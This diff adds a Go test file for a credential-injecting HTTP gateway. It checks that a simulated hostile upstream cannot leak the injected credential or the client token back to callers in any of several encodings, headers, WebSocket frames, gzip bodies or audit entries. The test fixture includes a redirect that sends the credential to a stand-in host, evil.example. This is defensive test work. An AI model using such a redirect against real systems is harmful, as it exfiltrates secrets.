@@ -1,0 +1,436 @@
+package gateway
+
+import (
+	"bufio"
+	"bytes"
+	"compress/gzip"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf16"
+
+	"github.com/mayfly-sh/mayfly/internal/clientip"
+	"github.com/mayfly-sh/mayfly/internal/lease"
+)
+
+// hostileCred needs escaping in URLs and JSON, as real credentials may.
+const hostileCred = `ghp_Hostile/Cred+val="x"\0123456789ab`
+
+func TestContentCodings(t *testing.T) {
+	for _, tc := range []struct {
+		name   string
+		lines  []string
+		decode bool   // the body is decoded as gzip
+		refuse string // the refusal's reason ("" none)
+	}{
+		{"none", nil, false, ""},
+		{"identity", []string{"identity"}, false, ""},
+		{"empty", []string{""}, false, ""},
+		{"gzip", []string{"gzip"}, true, ""},
+		{"x-gzip, odd case and blanks", []string{" \tX-GZip "}, true, ""},
+		{"identity line then gzip line", []string{"identity", "gzip"}, true, ""},
+		{"empty line then gzip line", []string{"", "gzip"}, true, ""},
+		{"list with identity and empties", []string{" , identity,,gzip, "}, true, ""},
+		{"gzip twice in a list", []string{"gzip, gzip"}, false, "stacked content codings gzip, gzip"},
+		{"gzip on two lines", []string{"gzip", "GZIP"}, false, "stacked content codings gzip, gzip"},
+		{"deflate then gzip", []string{"deflate", "gzip"}, false, "stacked content codings deflate, gzip"},
+		{"br", []string{"br"}, false, "content coding br is not decoded by the gateway"},
+		{"deflate", []string{"Deflate"}, false, "content coding deflate is not decoded by the gateway"},
+		{"zstd", []string{"zstd"}, false, "content coding zstd is not decoded by the gateway"},
+		{"compress", []string{"compress"}, false, "content coding compress is not decoded by the gateway"},
+		{"a secret as the coding", []string{hostileCred}, false, "content coding unknown is not decoded by the gateway"},
+		{"gzip then unknown", []string{"gzip;q=1"}, false, "content coding unknown is not decoded by the gateway"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			var zb bytes.Buffer
+			zw := gzip.NewWriter(&zb)
+			zw.Write([]byte("plain body"))
+			zw.Close()
+			resp := &http.Response{StatusCode: 200, Header: http.Header{"Content-Length": {fmt.Sprint(zb.Len())}},
+				Body: io.NopCloser(bytes.NewReader(zb.Bytes())), ContentLength: int64(zb.Len())}
+			if tc.lines != nil {
+				resp.Header["Content-Encoding"] = tc.lines
+			}
+			err := decodeBody(resp)
+			if tc.refuse != "" {
+				ee, ok := err.(*encodingError)
+				if !ok || ee.why != tc.refuse {
+					t.Fatalf("err %v, want refusal %q", err, tc.refuse)
+				}
+				if strings.Contains(err.Error(), "Hostile") {
+					t.Fatal("the refusal repeats the upstream's value")
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if resp.Header.Get("Content-Encoding") != "" {
+				t.Fatalf("Content-Encoding %q left", resp.Header.Get("Content-Encoding"))
+			}
+			body, err := io.ReadAll(resp.Body)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if tc.decode != (string(body) == "plain body") || tc.decode && (resp.ContentLength != -1 || resp.Header.Get("Content-Length") != "") {
+				t.Fatalf("decode %v: body %q, length %d %q", tc.decode, body, resp.ContentLength, resp.Header.Get("Content-Length"))
+			}
+		})
+	}
+	// Without a body there is nothing to decode or refuse.
+	resp := &http.Response{StatusCode: 304, Header: http.Header{"Content-Encoding": {"br"}}, Body: http.NoBody}
+	if err := decodeBody(resp); err != nil || resp.Header.Get("Content-Encoding") != "br" {
+		t.Fatalf("304: %v %v", err, resp.Header)
+	}
+	// A body that only claims to be gzip is refused before anything goes out.
+	resp = &http.Response{StatusCode: 200, Header: http.Header{"Content-Encoding": {"gzip"}}, Body: io.NopCloser(strings.NewReader("not gzip")), ContentLength: -1}
+	if err, ok := decodeBody(resp).(*encodingError); !ok || err.why != "malformed gzip body" {
+		t.Fatalf("malformed gzip: %v", err)
+	}
+}
+
+// Any Content-Encoding lines are either refused, naming only registered
+// codings, or leave a body with no Content-Encoding left.
+func FuzzContentCodings(f *testing.F) {
+	f.Add("identity", "gzip")
+	f.Add("", " GZIP")
+	f.Add("br, gzip", "")
+	f.Add("x-gzip,,", "identity")
+	f.Fuzz(func(t *testing.T, a, b string) {
+		resp := &http.Response{StatusCode: 200, Header: http.Header{"Content-Encoding": {a, b}},
+			Body: io.NopCloser(strings.NewReader("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff\x03\x00\x00\x00\x00\x00\x00\x00\x00\x00")), ContentLength: -1}
+		err := decodeBody(resp)
+		if ee, ok := err.(*encodingError); ok {
+			for _, w := range strings.FieldsFunc(strings.TrimPrefix(strings.TrimPrefix(ee.why, "stacked content codings "), "content coding "), func(r rune) bool { return r == ',' || r == ' ' }) {
+				if w != "unknown" && !knownCodings[w] && !strings.Contains("is not decoded by the gateway", w) {
+					t.Fatalf("refusal %q names %q", ee.why, w)
+				}
+			}
+			return
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(contentCodings(resp.Header)) != 0 {
+			t.Fatalf("codings left: %q", resp.Header["Content-Encoding"])
+		}
+	})
+}
+
+// leakForms are the ways a reflecting upstream sends a value back, written
+// here independently of internal/mask: each with the piece that must not
+// come out readable (the middle third of the encoded value).
+func leakForms(v string) []struct{ name, body, mid string } {
+	var out []struct{ name, body, mid string }
+	add := func(name, body string) {
+		out = append(out, struct{ name, body, mid string }{name, body, body[len(body)/3 : 2*len(body)/3]})
+	}
+	add("raw", v)
+	for k, pre := range []string{"Bearer ", "Basic x", "Token xy"} {
+		add(fmt.Sprintf("base64 std, alignment %d", k), base64.StdEncoding.EncodeToString([]byte(pre+v)))
+		add(fmt.Sprintf("base64 url unpadded, alignment %d", k), base64.RawURLEncoding.EncodeToString([]byte(pre+v)))
+	}
+	add("hex", hex.EncodeToString([]byte(v)))
+	add("HEX", strings.ToUpper(hex.EncodeToString([]byte(v))))
+	add("percent, lower-case", lowerPct(url.QueryEscape(v)))
+	add("percent path", url.PathEscape(v))
+	j, _ := json.Marshal(v)
+	add("json", string(j[1:len(j)-1]))
+	add("json, every character escaped", uEscape(v, "%04x"))
+	add("json, every character escaped, upper", uEscape(v, "%04X"))
+	return out
+}
+
+func lowerPct(s string) string {
+	b := []byte(s)
+	for i := 0; i+2 < len(b); i++ {
+		if b[i] == '%' {
+			copy(b[i+1:i+3], strings.ToLower(string(b[i+1:i+3])))
+		}
+	}
+	return string(b)
+}
+
+func uEscape(v, f string) string {
+	var b strings.Builder
+	for _, u := range utf16.Encode([]rune(v)) {
+		b.WriteString(`\u` + fmt.Sprintf(f, u))
+	}
+	return b.String()
+}
+
+func utf16Bytes(s string, order binary.ByteOrder) []byte {
+	u := utf16.Encode([]rune(s))
+	b := make([]byte, 2*len(u))
+	for i, x := range u {
+		order.PutUint16(b[2*i:], x)
+	}
+	return b
+}
+
+// readable is everything a client could read out of a response: the bytes,
+// and the bytes as UTF-16 in either order and at either offset.
+func readable(b []byte) string {
+	var s strings.Builder
+	s.Write(b)
+	for _, order := range []binary.ByteOrder{binary.LittleEndian, binary.BigEndian} {
+		for off := 0; off < 2 && off < len(b); off++ {
+			u := make([]uint16, (len(b)-off)/2)
+			for i := range u {
+				u[i] = order.Uint16(b[off+2*i:])
+			}
+			s.WriteString("\n" + string(utf16.Decode(u)))
+		}
+	}
+	return s.String()
+}
+
+// hostileGateway is the harness's gateway with a credential that needs
+// escaping, and the harness's upstream answering /repos/acme/app/hostile/
+// with handler.
+func hostileGateway(t *testing.T, h *harness, handler http.HandlerFunc) string {
+	t.Helper()
+	gw, err := New(Config{Leases: h.leases, Policies: h.pol, Secrets: fixedSecrets{hostileCred}, Auditor: h.aud,
+		ClientIP: clientip.New(nil), Registerer: nil, AuditTimeout: 300 * time.Millisecond})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(gw.Close)
+	srv := httptest.NewServer(gw)
+	t.Cleanup(srv.Close)
+	h.up.mu.Lock()
+	h.up.hostile = handler
+	h.up.mu.Unlock()
+	return srv.Listener.Addr().String()
+}
+
+// rawGet sends a GET on a fresh connection and returns the parsed response,
+// its body as sent (chunked framing removed, nothing decoded) and every
+// byte that came back.
+func rawGet(t *testing.T, addr, target, tok string) (*http.Response, []byte, []byte) {
+	t.Helper()
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	conn.SetDeadline(time.Now().Add(10 * time.Second))
+	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nAccept-Encoding: gzip, br\r\nTE: trailers\r\nConnection: close\r\n\r\n", target, addr, tok)
+	all, _ := io.ReadAll(conn)
+	resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(all)), nil)
+	if err != nil {
+		t.Fatalf("%s: %v in %q", target, err, all)
+	}
+	body, _ := io.ReadAll(resp.Body)
+	return resp, body, all
+}
+
+func TestHostileUpstreamResponses(t *testing.T) {
+	h := newHarness(t)
+	tok := h.issue(lease.Request{Grants: []string{"read"}})
+	secrets := map[string]string{"cred": hostileCred, "token": tok}
+	gz := func(b []byte) []byte {
+		var buf bytes.Buffer
+		zw := gzip.NewWriter(&buf)
+		zw.Write(b)
+		zw.Close()
+		return buf.Bytes()
+	}
+	addr := hostileGateway(t, h, func(w http.ResponseWriter, r *http.Request) {
+		if got := r.Header.Get("Authorization"); got != "Bearer "+hostileCred {
+			http.Error(w, "no credential", 500)
+			return
+		}
+		parts := strings.Split(strings.TrimPrefix(r.URL.Path, "/base/repos/acme/app/hostile/"), "/")
+		v := secrets[r.URL.Query().Get("s")]
+		forms := leakForms(v)
+		switch parts[0] {
+		case "ok":
+			fmt.Fprint(w, `{"fine":true}`)
+		case "body":
+			var form string
+			for _, f := range forms {
+				if f.name == r.URL.Query().Get("f") {
+					form = f.body
+				}
+			}
+			switch r.URL.Query().Get("as") {
+			case "utf16le":
+				w.Write(utf16Bytes(`{"value":"`+form+`"}`, binary.LittleEndian))
+			case "utf16be":
+				w.Write(utf16Bytes(`{"value":"`+form+`"}`, binary.BigEndian))
+			case "identity+gzip":
+				w.Header()["Content-Encoding"] = []string{"identity", "gzip"}
+				w.Write(gz([]byte(`{"value":"` + form + `"}`)))
+			case "empty+gzip":
+				w.Header()["Content-Encoding"] = []string{"", "gzip"}
+				w.Write(gz([]byte(`{"value":"` + form + `"}`)))
+			case "GZIP":
+				w.Header()["Content-Encoding"] = []string{" GZIP "}
+				w.Header().Set("Content-Length", fmt.Sprint(len(gz([]byte(form)))))
+				w.Write(gz([]byte(form)))
+			default:
+				fmt.Fprintf(w, `{"value":"%s"}`, form)
+			}
+		case "headers":
+			w.Header().Set("Trailer", "X-Leak-Trailer, "+tok)
+			for i, f := range forms {
+				w.Header().Set(fmt.Sprintf("X-Leak-%d", i), "v="+f.body)
+			}
+			w.Header().Set("Location", "https://evil.example/cb?c="+url.QueryEscape(v))
+			w.WriteHeader(302)
+			fmt.Fprint(w, "moved")
+			w.Header().Set("X-Leak-Trailer", forms[1].body)
+			w.Header().Set(tok, "x")
+		case "ws":
+			conn, brw, err := http.NewResponseController(w).Hijack()
+			if err != nil {
+				return
+			}
+			defer conn.Close()
+			brw.WriteString("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
+			brw.Flush()
+			for _, f := range forms {
+				wsWriteFrame(conn, true, 1, []byte("got "+f.body+" ok"), false)
+				m := []byte("split " + f.body + " ok")
+				wsWriteFrame(conn, false, 1, m[:len(m)/2], false)
+				wsWriteFrame(conn, true, 9, []byte(v[:min(len(v), 100)]), false)
+				wsWriteFrame(conn, true, 0, m[len(m)/2:], false)
+				wsWriteFrame(conn, true, 2, utf16Bytes("utf16 "+f.body, binary.LittleEndian), false)
+			}
+			wsWriteFrame(conn, true, 8, nil, false)
+		case "coding":
+			w.Header()["Content-Encoding"] = strings.Split(r.URL.Query().Get("ce"), "|")
+			body := []byte(v)
+			for range strings.Count(r.URL.Query().Get("ce"), "gzip") {
+				body = gz(body)
+			}
+			w.Write(body)
+		}
+	})
+	// The neighbour that must work: an ordinary response.
+	resp, body, _ := rawGet(t, addr, "/gw/api/repos/acme/app/hostile/ok", tok)
+	if resp.StatusCode != 200 || string(body) != `{"fine":true}` {
+		t.Fatalf("plain response: %d %q", resp.StatusCode, body)
+	}
+	noLeak := func(what string, all []byte) {
+		t.Helper()
+		text := readable(all)
+		for name, s := range secrets {
+			for _, f := range leakForms(s) {
+				if strings.Contains(text, f.mid) {
+					t.Fatalf("%s: %s of the %s came back: %q", what, f.name, name, all)
+				}
+			}
+		}
+	}
+	for which := range secrets {
+		for _, f := range leakForms(secrets[which]) {
+			for _, as := range []string{"", "utf16le", "utf16be", "identity+gzip", "empty+gzip", "GZIP"} {
+				what := fmt.Sprintf("%s %s as %q", which, f.name, as)
+				resp, body, all := rawGet(t, addr, "/gw/api/repos/acme/app/hostile/body?"+url.Values{"s": {which}, "f": {f.name}, "as": {as}}.Encode(), tok)
+				if resp.StatusCode != 200 || !strings.Contains(readable(body), "***") {
+					t.Fatalf("%s: %d %q", what, resp.StatusCode, body)
+				}
+				if resp.Header.Get("Content-Encoding") != "" {
+					t.Fatalf("%s: Content-Encoding %q on a decoded body", what, resp.Header.Get("Content-Encoding"))
+				}
+				noLeak(what, all)
+			}
+		}
+		resp, body, all := rawGet(t, addr, "/gw/api/repos/acme/app/hostile/headers?s="+which, tok)
+		if resp.StatusCode != 302 || string(body) != "moved" || !strings.HasPrefix(resp.Header.Get("Location"), "https://evil.example/cb?c=***") {
+			t.Fatalf("headers %s: %d %q %v", which, resp.StatusCode, body, resp.Header)
+		}
+		noLeak("headers "+which, all)
+		if bytes.Contains(bytes.ToLower(all), bytes.ToLower([]byte(tok))) {
+			t.Fatalf("headers %s: the token's letters came back in a name: %q", which, all)
+		}
+	}
+	// WebSocket frames: every form, whole, split around a ping, in UTF-16.
+	for which := range secrets {
+		conn, err := net.Dial("tcp", addr)
+		if err != nil {
+			t.Fatal(err)
+		}
+		conn.SetDeadline(time.Now().Add(10 * time.Second))
+		fmt.Fprintf(conn, "GET /gw/api/repos/acme/app/hostile/ws?s=%s HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"+
+			"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer %s\r\n\r\n", which, tok)
+		all, _ := io.ReadAll(conn)
+		conn.Close()
+		br := bufio.NewReader(bytes.NewReader(all))
+		if resp, err := http.ReadResponse(br, nil); err != nil || resp.StatusCode != 101 {
+			t.Fatalf("ws %s: %v %q", which, err, all)
+		}
+		frames := 0
+		for {
+			_, op, msg, err := wsReadFrame(br)
+			if err != nil {
+				break
+			}
+			frames++
+			if op != 8 && !bytes.Contains(msg, []byte("*")) {
+				t.Fatalf("ws %s: frame %d not masked: %q", which, frames, msg)
+			}
+		}
+		if frames != 5*len(leakForms(secrets[which]))+1 {
+			t.Fatalf("ws %s: %d frames came through", which, frames)
+		}
+		noLeak("ws "+which, all)
+	}
+	// Codings: one gzip behind no-ops is decoded; anything more is refused
+	// and never forwarded, and the audit entry says why.
+	for _, tc := range []struct {
+		ce     string
+		status int
+		reason string
+	}{
+		{"identity|gzip", 200, ""},
+		{"|gzip", 200, ""},
+		{"identity, gzip", 200, ""},
+		{"x-gzip", 200, ""},
+		{"gzip, gzip", 502, "encoding: stacked content codings gzip, gzip"},
+		{"gzip|gzip", 502, "encoding: stacked content codings gzip, gzip"},
+		{"identity|gzip|gzip", 502, "encoding: stacked content codings gzip, gzip"},
+		{"br", 502, "encoding: content coding br is not decoded by the gateway"},
+		{"deflate", 502, "encoding: content coding deflate is not decoded by the gateway"},
+		{"zstd", 502, "encoding: content coding zstd is not decoded by the gateway"},
+		{"br|", 502, "encoding: content coding br is not decoded by the gateway"},
+		{hostileCred, 502, "encoding: content coding unknown is not decoded by the gateway"},
+	} {
+		for which := range secrets {
+			resp, body, all := rawGet(t, addr, "/gw/api/repos/acme/app/hostile/coding?"+url.Values{"s": {which}, "ce": {tc.ce}}.Encode(), tok)
+			if resp.StatusCode != tc.status {
+				t.Fatalf("coding %q: %d %q", tc.ce, resp.StatusCode, body)
+			}
+			noLeak("coding "+tc.ce, all)
+			if tc.status == 200 && string(body) != "***" {
+				t.Fatalf("coding %q: body %q", tc.ce, body)
+			}
+			if tc.status != 502 {
+				continue
+			}
+			found := false
+			for deadline := time.Now().Add(5 * time.Second); !found && time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
+				for _, e := range h.entries() {
+					found = found || e.Reason == tc.reason
+					raw, _ := json.Marshal(e)
+					noLeak("audit entry", raw)
+				}
+			}
+			if !found {
+				t.Fatalf("coding %q: no entry with reason %q", tc.ce, tc.reason)
+			}
+		}
+	}
+}
